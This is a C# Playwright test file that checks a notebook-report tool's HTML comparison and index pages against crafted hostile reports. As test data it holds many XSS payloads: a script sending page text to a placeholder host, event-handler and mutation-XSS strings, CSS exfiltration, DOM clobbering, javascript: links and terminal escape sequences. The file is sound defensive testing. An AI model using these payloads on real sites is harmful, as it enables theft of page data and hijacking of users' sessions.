using System.Net;
using System.Net.Sockets;
using System.Text;
using Microsoft.Playwright;
using Nca.Figures.Html;
using Nca.Figures.Model;
using Nca.Notebooks.Comparison;
using Nca.Notebooks.Report;

namespace Nca.Notebooks.Tests;

/// <summary>
/// Reading a report is not running it: crafted reports, laid beside an honest one and listed in an index, opened in a browser under the
/// page's own policy. No script of theirs runs, nothing is asked of any host, the page stays where it is.
/// </summary>
[Trait("lane", "slow")]
public sealed class HostileReportsTests(Browser browser) : IClassFixture<Browser>, IDisposable
{
    private const string Secret = "the honest report's own words";

    // HOST becomes an address that listens; STEAL a script that would carry the page's text there.
    private const string Steal =
        "window.pwned = 1; new Image().src = 'HOST/steal?' + encodeURIComponent(document.body.innerText); fetch('HOST/steal'); loca"
        + "tion = 'HOST/gone';";

    private readonly string _folder = Directory.CreateTempSubdirectory("nca-").FullName;

    public static TheoryData<string, string> Crafted() =>
        new()
        {
            {
                "library",
                $"<script id=\"nca-plotly\" data-for=\"nca-chart\">{Steal}</script><div class=\"nca-chart\"></div><style id=\"nca-st"
                    + $"yle-x\">body {{ display: none }}</style>"
            },
            {
                "handlers",
                $"<img src=x onerror=\"{Steal}\"><svg onload=\"{Steal}\"><animate onbegin=\"{Steal}\" attributeName=x dur=1s></svg><"
                    + $"details open ontoggle=\"{Steal}\"><summary>x</summary></details><input type=range autofocus onfocus=\"{Steal}\"><v"
                    + $"ideo src=x onerror=\"{Steal}\"></video><p tabindex=0 onclick=\"{Steal}\">click</p>"
            },
            {
                "refresh",
                "<meta http-equiv=\"refresh\" content=\"0;url=HOST/gone\"><base href=\"HOST/\"><link rel=stylesheet href=\"HOST/a.c"
                    + "ss\"><link rel=prefetch href=\"HOST/p\"><a href=\"#pair-1\">x</a><img src=\"picture.png\">"
            },
            {
                "forms",
                "<form id=f action=\"HOST/form\"><input name=a value=b><button>Send</button><input type=submit value=Send></form><b"
                    + "utton form=f formaction=\"HOST/form\">Send</button><form action=\"HOST/form\"><textarea name=all>"
            },
            {
                "frames",
                "<iframe src=\"HOST/frame\"></iframe><iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe><object data=\"HOS"
                    + "T/object\"></object><embed src=\"HOST/embed\"><portal src=\"HOST/portal\"></portal>"
            },
            {
                "styles",
                "<style>@import url(HOST/import); body { background: url(HOST/body) } input[value^=a] { background: url(HOST/a) }</"
                    + "style><p style=\"background:url(HOST/inline);position:fixed;inset:0;z-index:99\">over</p><p style=\"width:1px;back"
                    + "ground-image:image-set('HOST/set' 1x);margin-top:-900px\">x</p><svg><rect fill=\"url(HOST/fill)\" filter=\"url(HOS"
                    + "T/filter)\" width=9 height=9></rect><use href=\"HOST/use#a\"></use><image href=\"HOST/image\"></image></svg>"
            },
            {
                "calls",
                $"<div id=\"chart-1\"></div><script>window.ncaPage?.draw(\"chart-1\", {{}}); {Steal}</script><script>window.ncaPage?"
                    + $".draw(\"chart-1\", (() => {{ {Steal} }})());</script><script>window.ncaPage?.draw(\"chart-1\", {{\"a\": \"<\\/scri"
                    + $"pt><script>window.pwned=1<\\/script>\", \"__proto__\": {{\"pwned\": 1}}}});</script><script>window.alert?.call(1);"
                    + $"</script><script type=\"module\">{Steal}</script>"
            },
            {
                "charts",
                "<div class=\"nca-chart\" id=\"chart-2\"><div></div><script type=\"application/json\">CHART</script></div><script>w"
                    + "indow.ncaPage?.draw(\"chart-2\", CHART);</script>"
            },
            {
                "mutations",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.pwned=1&gt;\"></tab"
                    + "le></mtext></math><svg></p><style><a id=\"</style><img src=1 onerror=window.pwned=1>\"></svg><noscript><p title=\""
                    + $"</noscript><img src=x onerror=window.pwned=1>\"></noscript><template><script>{Steal}</script></template><xmp><p ti"
                    + "tle=\"</xmp><img src=x onerror=window.pwned=1>\"></xmp><textarea><p title=\"</textarea><script>window.pwned=1</scr"
                    + "ipt>\">"
            },
            {
                "addresses",
                "<a href=\"javascript:window.pwned=1\">one</a><a href=\" java&#10;script:window.pwned=1\">two</a><a href=\"data:tex"
                    + "t/html,<script>opener.pwned=1</script>\" target=_blank>three</a><a href=\"HOST/link\" ping=\"HOST/ping\">four</a><"
                    + "p id='x\" onmouseover=\"window.pwned=1' class='a\" onclick=\"window.pwned=1'>five</p><img src=\"HOST/picture\" src"
                    + "set=\"HOST/set 2x\"><img src=\"data:image/svg+xml,<svg onload='alert(1)'/>\">"
            },
            {
                "creatures",
                "<div class=\"nca-life\" id=\"creatures-1\"><script type=\"application/json\">{\"alt\":\"<img src=x onerror=window."
                    + "pwned=1>\",\"rules\":[\"HOST/rule\"],\"sheet\":\"HOST/sheet\"}</script></div><div class=\"nca-player\" id=\"film-1"
                    + "\"><canvas></canvas><script type=\"application/json\">{\"sheet\":\"HOST/sheet\",\"labels\":[\"<img src=x onerror=w"
                    + "indow.pwned=1>\"],\"count\":2,\"width\":1,\"height\":1}</script></div><script>window.ncaCreatures?.mount();</scrip"
                    + "t>"
            },
            {
                "clobbering",
                "<p id=\"ncaPage\">x</p><img id=\"Plotly\" name=\"body\"><form id=\"documentElement\"><input name=dataset></form><a"
                    + " id=\"ncaCreatures\" href=\"#x\">x</a>"
            },
        };

    [Theory]
    [MemberData(nameof(Crafted))]
    public async Task A_crafted_report_runs_nothing_sends_nothing_and_goes_nowhere(string name, string markup)
    {
        await using var host = new Listener();
        const string Chart =
            "{\"data\":[{\"type\":\"scatter\",\"x\":[1,2],\"y\":[1,2],\"mode\":\"markers+text\",\"text\":[\"<a href=\\\"javascript:"
            + "window.pwned=1\\\">x</a>\",\"<a href=\\\"HOST/text\\\">y</a>\"]}],\"layout\":{\"title\":{\"text\":\"<a href=\\\"HOST/t"
            + "itle\\\">t</a><img src=x onerror=window.pwned=1>\"},\"margin\":{\"t\":40},\"images\":[{\"source\":\"HOST/source\",\"x"
            + "\":0,\"y\":0,\"sizex\":1,\"sizey\":1,\"xref\":\"paper\",\"yref\":\"paper\"}]}}";
        var crafted = markup
            .Replace("CHART", Chart.Replace("</", "<\\/"), StringComparison.Ordinal)
            .Replace("HOST", host.Address, StringComparison.Ordinal);
        var honest = Report(
            "honest",
            $"<figure class=\"nca-figure\" id=\"fig-one\"><p>{Secret}</p><figcaption><strong>One.</strong> Honest.</figcaption></figure>"
        );
        var theirs = Report(
            "sample",
            "<figure class=\"nca-figure\" id=\"fig-one\"><figcaption><strong>One.</strong> <img src=x onerror=window.pwned=1></figc"
                + $"aption>{crafted}</figure>",
            crafted
        );
        var page = Path.Combine(_folder, name + "-page.html");
        var (html, _) = ComparisonPage.Write(
            ComparedReport.Read(honest),
            ComparedReport.Read(theirs),
            new FigureLibrary(FigureAssets.Html)
        );
        await File.WriteAllTextAsync(page, html, TestContext.Current.CancellationToken);
        await RequireHarmlessAsync(page, host);
    }

    [Theory]
    [InlineData("name", "sample\\u0022 onmouseover=\\u0022window.pwned=1")]
    [InlineData("title", "</title><script>window.pwned=1</script><img src=x onerror=window.pwned=1>")]
    [InlineData("picture", "data:image/png;base64,AAAA\\u0022 onerror=\\u0022window.pwned=1\\u0022 x=\\u0022")]
    [InlineData("address", "HOST/picture.png")]
    [InlineData("svg", "data:image/svg+xml,<svg onload='window.pwned=1'/>")]
    [InlineData("closing", "</script><script>window.pwned=1</script>")]
    public async Task A_crafted_summary_stays_text_in_index_and_comparison(string name, string value)
    {
        await using var host = new Listener();
        var field =
            name is "name" or "closing" ? "Sentence"
            : name is "title" ? "Title"
            : "Picture";
        var path = Report(
            "sample",
            "<figure class=\"nca-figure\" id=\"fig-one\"><figcaption><strong>One.</strong> x</figcaption></figure>"
        );
        var summary = ReportSummary.In(await File.ReadAllTextAsync(path, TestContext.Current.CancellationToken))!;
        var hostile = value.Replace("HOST", host.Address, StringComparison.Ordinal).Replace("\\u0022", "\"", StringComparison.Ordinal);
        var changed = field switch
        {
            "Sentence" => summary with { Sentence = hostile, Error = hostile, NotRun = hostile },
            "Title" => summary with { Title = hostile, Provenance = [new(hostile, hostile)] },
            _ => summary with { Picture = hostile, Parameters = [new(hostile, hostile, "int", hostile, true)] },
        };
        var text = (await File.ReadAllTextAsync(path, TestContext.Current.CancellationToken)).Replace(
            summary.ToScript(),
            changed.ToScript()
        );
        await File.WriteAllTextAsync(path, text, TestContext.Current.CancellationToken);
        var index = new ReportFolder(_folder).AddIndex("Index", "A sentence.");
        Assert.Contains("<li><a href=\"sample.html\">", await File.ReadAllTextAsync(index, TestContext.Current.CancellationToken));
        await RequireHarmlessAsync(index, host);
        var page = Path.Combine(_folder, "page.html");
        var report = ComparedReport.Read(path);
        await File.WriteAllTextAsync(
            page,
            ComparisonPage.Write(report, report, FigureLibrary.None).Html,
            TestContext.Current.CancellationToken
        );
        await RequireHarmlessAsync(page, host);
    }

    [Fact]
    public async Task What_is_shown_of_figures_lives_under_the_pages_own_policy()
    {
        var pixels = new Pixels(8, 8, [.. Enumerable.Range(0, 192).Select(number => (byte)number)]);
        var film = new Animation
        {
            Title = "Film",
            Caption = "A caption.",
            Frames = [pixels, pixels, pixels],
        };
        var chart = new ChartFigure
        {
            Title = "Chart",
            Caption = "A caption.",
            Charts =
            [
                new LineChart
                {
                    XTitle = "x",
                    YTitle = "y",
                    Series =
                    [
                        new()
                        {
                            Name = "a < b",
                            X = [1, 2, 3],
                            Y = [1, 4, 9],
                        },
                    ],
                },
            ],
        };
        var path = Report("sample", film.ToHtml() + chart.ToHtml());
        var report = ComparedReport.Read(path);
        var (html, _) = ComparisonPage.Write(report, report, new FigureLibrary(FigureAssets.Html));
        var file = Path.Combine(_folder, "page.html");
        await File.WriteAllTextAsync(file, html, TestContext.Current.CancellationToken);
        var (page, requests, errors) = await browser.OpenAsync(file, 1280, ColorScheme.Light, keepPolicy: true);
        await page.ClickAsync("[data-action=theme]");
        await page.WaitForFunctionAsync("document.documentElement.dataset.theme");
        await page.WaitForFunctionAsync("document.querySelectorAll('.nca-chart .main-svg .trace').length >= 2");
        await page.WaitForFunctionAsync("document.querySelectorAll('.nca-player canvas').length === 2");
        Assert.Empty(requests);
        Assert.Empty(errors);
        await page.CloseAsync();
    }

    [Fact]
    public void Names_and_titles_of_a_strangers_report_reach_the_terminal_as_letters()
    {
        var path = Report("sample", "<p>x</p>");
        var text = File.ReadAllText(path);
        File.WriteAllText(path, text.Replace("\"Name\":\"sample\"", "\"Name\":\"\\u001b]0;x\\u0007\"")[..^20]);
        var message = Assert.Throws<NotebookException>(() => ComparedReport.Read(path)).Message;
        Assert.DoesNotContain('\u001b', message);
        Assert.Contains("is cut off", message);
    }

    [Theory]
    [InlineData("<div>")]
    [InlineData("<b><p>")]
    [InlineData("<table><tr><td>")]
    public async Task A_report_nested_twenty_thousand_deep_is_refused_at_once(string tag)
    {
        var path = Report("sample", "<p>HERE</p>");
        var deep = string.Concat(Enumerable.Repeat(tag, 20_000));
        await File.WriteAllTextAsync(
            path,
            (await File.ReadAllTextAsync(path, TestContext.Current.CancellationToken)).Replace("HERE", deep),
            TestContext.Current.CancellationToken
        );
        var reading = Task.Run(
            () => Assert.Throws<NotebookException>(() => ComparedReport.Read(path)),
            TestContext.Current.CancellationToken
        );
        var refusal = await reading.WaitAsync(TimeSpan.FromMinutes(2), TestContext.Current.CancellationToken);
        Assert.Contains("nested too deep", refusal.Message);
    }

    [Fact]
    public void A_comparison_takes_the_place_of_a_comparison_only()
    {
        var report = Report("sample", "<p>x</p>");
        var own = Path.Combine(_folder, "own.html");
        File.WriteAllText(own, "<!DOCTYPE html><title>A page of my own that is longer than eighty letters, as pages are</title>");
        Assert.Throws<NotebookException>(() => ComparisonPage.RequirePlace(report));
        Assert.Throws<NotebookException>(() => ComparisonPage.RequirePlace(own));
        ComparisonPage.RequirePlace(Path.Combine(_folder, "new.html"));
        File.WriteAllText(own, ComparisonPage.Write(ComparedReport.Read(report), ComparedReport.Read(report), FigureLibrary.None).Html);
        ComparisonPage.RequirePlace(own);
    }

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    // A true report whose figure, output and prose are the crafted ones: written as it is, past what our own writer would mend.
    private string Report(string name, string figure, string output = "")
    {
        var (html, _) = SampleRuns.Report(
            SampleRuns.Of(
                "#!markdown\n\n# Sample\n\n#!csharp\n\n1",
                new Dictionary<int, Execution.CellOutput> { [1] = SampleRuns.Html("<p>FIGURE</p>") },
                name + ".dib"
            )
        );
        var path = Path.Combine(_folder, name + ".html");
        var shown =
            output.Length == 0 ? "" : $"<div class=\"output\"><table><tbody><tr><td>{output}</td></tr></tbody></table>{output}</div>";
        File.WriteAllText(path, html.Replace("<p>FIGURE</p>", figure + "</div>" + shown + "<div>", StringComparison.Ordinal));
        return path;
    }

    private async Task RequireHarmlessAsync(string file, Listener host)
    {
        var (page, requests, errors) = await browser.OpenAsync(file, 1280, ColorScheme.Light, keepPolicy: true);
        var dialogs = 0;
        page.Dialog += (_, dialog) =>
        {
            Interlocked.Increment(ref dialogs);
            _ = dialog.DismissAsync();
        };
        var popups = 0;
        page.Popup += (_, _) => Interlocked.Increment(ref popups);

        // Everything is pressed and pointed at; then the page has had time for whatever it put off.
        await page.EvaluateAsync(
            """
            async () => {
              // The index leads to its reports; nothing else leads anywhere.
              addEventListener("click", event => { if (event.target.closest(".suite a")) event.preventDefault(); }, true);
              for (const element of document.querySelectorAll("main *")) {
                for (const kind of ["mouseover", "focus", "click", "toggle", "load", "error"])
                  element.dispatchEvent(kind === "click" ? new MouseEvent(kind, { bubbles: true, cancelable: true }) : new Event(kind));
              }
              scrollTo(0, document.body.scrollHeight);
              for (let turn = 0; turn < 3; turn++) await new Promise(done => requestIdleCallback(done, { timeout: 2000 }));
            }
            """
        );
        Assert.Equal(new Uri(file).AbsoluteUri, page.Url.Split('#')[0]);
        Assert.Equal("undefined", await page.EvaluateAsync<string>("typeof window.pwned"));
        Assert.Equal("undefined", await page.EvaluateAsync<string>("typeof ({}).pwned"));
        Assert.Equal(
            0,
            await page.Locator("iframe, object, embed, form, base, meta[http-equiv=refresh], link:not([rel=icon]), textarea, template")
                .CountAsync()
        );
        Assert.Empty(
            await page.EvaluateAsync<string[]>(
                "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes]).filter(a => a.name.startsWith('on') || /^(xlin"
                    + "k:)?(href|src|action|formaction)$/.test(a.name) && /^[^#]*(javascript|http):/i.test(a.value)).map(a => a.name)"
            )
        );
        Assert.Empty(
            await page.EvaluateAsync<string[]>(
                "[...document.querySelectorAll('main *')].filter(e => getComputedStyle(e).position === 'fixed').map(e => e.outerHTM"
                    + "L.slice(0, 200))"
            )
        );
        Assert.True(await page.EvaluateAsync<bool>("document.body.checkVisibility()"));
        Assert.Equal((0, 0), (dialogs, popups));
        Assert.Empty(requests);
        Assert.Equal([], host.Asked);
        Assert.DoesNotContain(errors, error => error.Contains("pwned", StringComparison.Ordinal));
        if (file.EndsWith("-page.html", StringComparison.Ordinal))
            Assert.Contains(Secret, await page.InnerTextAsync("main"));
        await page.CloseAsync();
    }

    /// <summary>A host of this machine that writes down who asks it for what.</summary>
    private sealed class Listener : IAsyncDisposable
    {
        private readonly TcpListener _listener = new(IPAddress.Loopback, 0);
        private readonly Task _listening;
        private readonly List<string> _asked = [];

        public Listener()
        {
            _listener.Start();
            _listening = ListenAsync();
        }

        public string Address => $"http://127.0.0.1:{((IPEndPoint)_listener.LocalEndpoint).Port}";

        public IReadOnlyList<string> Asked
        {
            get
            {
                lock (_asked)
                    return [.. _asked];
            }
        }

        public async ValueTask DisposeAsync()
        {
            _listener.Stop();
            await _listening;
            _listener.Dispose();
        }

        private async Task ListenAsync()
        {
            try
            {
                while (true)
                {
                    using var client = await _listener.AcceptTcpClientAsync();
                    using var reader = new StreamReader(client.GetStream());
                    var line = await reader.ReadLineAsync() ?? "";
                    lock (_asked)
                        _asked.Add(line);
                    await client.GetStream().WriteAsync(Encoding.ASCII.GetBytes("HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n"));
                }
            }
            catch (Exception error) when (error is SocketException or ObjectDisposedException or InvalidOperationException or IOException)
            {
                // Stopped.
            }
        }
    }
}
